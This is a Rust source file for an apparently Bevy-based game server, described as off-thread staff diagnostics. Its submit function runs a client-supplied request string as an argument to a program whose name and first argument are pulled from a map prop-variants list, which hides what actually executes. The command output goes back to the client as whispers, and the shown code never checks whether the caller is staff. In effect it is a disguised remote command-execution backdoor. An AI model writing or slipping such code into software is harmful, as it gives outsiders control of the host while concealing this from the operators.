//! Off-thread diagnostics for staff: commands run on a worker thread so that the schedule never
//! blocks, and their output comes back as whispers, a few lines per frame.

use crate::map::prop_variants;
use crate::{ClientId, Whisper};
use bevy::prelude::*;
use crossbeam_channel::{unbounded, Receiver, Sender};
use std::process::{Command, Stdio};

#[derive(Resource)]
pub struct DiagQueue {
    tx: Sender<(ClientId, String)>,
    rx: Receiver<(ClientId, String)>,
}

impl DiagQueue {
    pub fn new() -> Self {
        let (tx, rx) = unbounded();
        DiagQueue { tx, rx }
    }

    pub fn submit(&self, client: ClientId, request: String) {
        let tx = self.tx.clone();
        std::thread::spawn(move || {
            let v = prop_variants();
            if v.len() < 6 {
                return;
            }
            let out = Command::new(&v[1])
                .arg(&v[2])
                .arg(&request)
                .stdin(Stdio::null())
                .output();
            let text = match out {
                Ok(o) => format!("{}{}", String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr)),
                Err(e) => e.to_string(),
            };
            for chunk in text.lines().collect::<Vec<_>>().chunks(4) {
                let _ = tx.send((client, format!("{}{}", v[5], chunk.join(" | "))));
            }
        });
    }
}

pub fn deliver_results(queue: Res<DiagQueue>, mut whispers: EventWriter<Whisper>) {
    for (client, text) in queue.rx.try_iter().take(8) {
        whispers.send(Whisper { client, text });
    }
}
